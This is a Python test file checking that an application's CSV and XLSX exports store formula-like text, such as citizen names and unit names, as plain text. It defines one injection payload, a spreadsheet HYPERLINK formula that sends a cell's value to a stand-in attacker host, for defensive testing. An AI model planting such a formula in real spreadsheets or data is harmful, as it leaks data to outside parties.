"""No export turns typed text into a spreadsheet formula (CSV or XLSX)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from dossiers import slips
from dossiers.services.core import Applicant, dossier_create
from portal.spreadsheets import FORMULA_STARTS
from reports.exports import appendix_csv, appendix_xlsx, rows_csv, rows_xlsx
from reports.selectors.appendix import appendix_compute
from reports.selectors.periods import Period
from tests.reports.conftest import at

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
OCT = Period(at("2020-10-01").date(), at("2020-10-31").date())


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, expected: str) -> None:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XML may read a carriage return back as a line feed: compare past the first character.
    found = [c for c in cells if isinstance(c.value, str) and c.value[1:] == expected[1:]]
    assert found, expected
    assert all(c.data_type == "s" and c.quotePrefix for c in found)


def test_the_register_writes_a_citizens_formula_name_as_text(commune, certified_contract, officer):
    applicant = Applicant(
        name=PAYLOAD, id_number="012345678901", phone="0912345678", address="@SUM(1,2)"
    )
    dossier_create(
        procedure=certified_contract,
        unit=commune,
        channel="counter",
        applicant=applicant,
        actor=officer,
        at=at("2020-10-05"),
    )
    register = slips.register_build(unit_ids={commune.pk}, field=None, start=OCT.start, end=OCT.end)
    content = slips.register_xlsx(register)
    _assert_no_formula(content, PAYLOAD)
    assert any(str(c.value).startswith("@SUM") and c.data_type == "s" for c in _cells(content))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_dangerous_start_is_text_in_rows_xlsx_and_csv(start):
    value = f"{start}1+1"
    content = rows_xlsx("t", ["name", "n"], [[value, 3], ["plain", -4]])
    _assert_no_formula(content, value)
    plain = [c for c in _cells(content) if c.value in ("plain", -4)]
    assert [c.quotePrefix for c in plain] == [False, False]
    text = rows_csv(["name", "n"], [[value, -4]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'" + value, "-4"]


def test_the_appendix_writes_a_formula_like_unit_name_as_text(commune, district):
    commune.name = PAYLOAD
    commune.save(update_fields=["name"])
    appendix = appendix_compute(period=OCT, units=[commune], scope={district.pk, commune.pk})
    _assert_no_formula(appendix_xlsx(appendix), PAYLOAD)
    rows = list(csv.reader(io.StringIO(appendix_csv(appendix).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + PAYLOAD
